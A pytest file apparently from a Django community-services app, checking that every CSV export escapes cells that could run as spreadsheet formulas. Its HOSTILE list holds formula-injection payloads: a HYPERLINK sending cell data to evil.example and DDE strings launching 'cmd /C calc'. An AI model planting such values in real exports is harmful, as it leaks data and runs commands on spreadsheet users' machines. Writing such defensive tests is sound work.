"""Every CSV export goes through one writer: no text cell can run as a spreadsheet formula."""

import csv
import io
import zipfile
from datetime import date, datetime, time, timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone

from kinfolk.accounts.actor import Actor
from kinfolk.accounts.models import Role
from kinfolk.core.csv_export import restore_cell, safe_cell
from kinfolk.directory import selectors as directory_selectors
from kinfolk.directory.models import Organization, Service
from kinfolk.directory.tests.factories import service
from kinfolk.people.tests.factories import PersonFactory
from kinfolk.wellbeing.models import Episode, MeasureResponse

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def no_formula_can_run(text: str) -> None:
    for cell in cells(text):
        assert (
            not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            or cell.lstrip("-").replace(".", "", 1).isdigit()
        ), f"{cell!r} would run as a formula"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_could_run_as_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-3, 2.5, "-3.5", "+44", "Walking group", "", None, date.today()])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


# --- each export, with a hostile name -----------------------------------------------------


def test_social_prescribing_report_csv(area, make_member, signed_in_client):
    from kinfolk.social_prescribing.services import practice_record, referral_create

    gp = make_member(Role.REFERRER, area)
    practice_record(area=area, ods_code="B82005", name=HOSTILE[1])  # a hostile name on the list

    for n in range(5):
        referral_create(
            actor=Actor(user=gp.user, membership=gp), practice=HOSTILE[1], reasons=["loneliness"],
            consent_recorded=True, consent_given_by="person",
            new_person={"given_name": "Joan", "family_name": f"Pickles{n}"},
        )  # fmt: skip
    from kinfolk.core.periods import year_of
    from kinfolk.social_prescribing.models import Referral

    today = date.today()
    last_year = year_of(today - timedelta(days=366), today)  # a whole year, over
    Referral.objects.update(received_at=timezone.make_aware(
        datetime.combine(last_year.starts_on + timedelta(days=40), datetime.min.time())
    ))  # fmt: skip
    client = signed_in_client(make_member(Role.COMMISSIONER, area))
    response = client.get(
        "/social-prescribing/reports/", {"format": "csv", "period": last_year.code}
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert "'" + HOSTILE[1] in cells(text)
    no_formula_can_run(text)


def _episode(area, service_name: str, person, before: int, after: int, by):
    start_on = date.today() - timedelta(days=200)
    Episode.objects.create(
        area=area, person=person, kind="service", service=service_name, started_on=start_on
    )
    for when, ucla in (
        (start_on - timedelta(days=5), before),
        (start_on + timedelta(days=150), after),
    ):
        MeasureResponse.objects.create(
            area=area, person=person, measure="loneliness", answers={}, score={"ucla3": ucla},
            recorded_with="on_behalf", recorded_by=by,
            completed_at=timezone.make_aware(datetime.combine(when, time(10))),
        )  # fmt: skip


def test_connection_test_csv(area, make_member, signed_in_client):
    commissioner = make_member(Role.COMMISSIONER, area)
    for _ in range(5):
        _episode(area, HOSTILE[2], PersonFactory(area=area), 8, 5, commissioner.user)
    response = signed_in_client(commissioner).get("/wellbeing/connection-test/", {"format": "csv"})
    assert response.status_code == 200
    text = response.content.decode()
    assert "'" + HOSTILE[2] in cells(text)
    no_formula_can_run(text)


def test_directory_datapackage_csvs_and_they_still_round_trip(area, tmp_path):
    original = service(area, HOSTILE[3])
    path = tmp_path / "directory.zip"
    call_command("directory_export", str(path))
    with zipfile.ZipFile(path) as archive:
        services_csv = archive.read("services.csv").decode()
        every_csv = [archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")]
    assert "'" + HOSTILE[3] in cells(services_csv)
    for text in every_csv:
        no_formula_can_run(text)
    Service.objects.all().delete()
    Organization.objects.all().delete()
    call_command("directory_import", str(path), area=area.slug)
    assert directory_selectors.service_get(original.pk).name == HOSTILE[3]
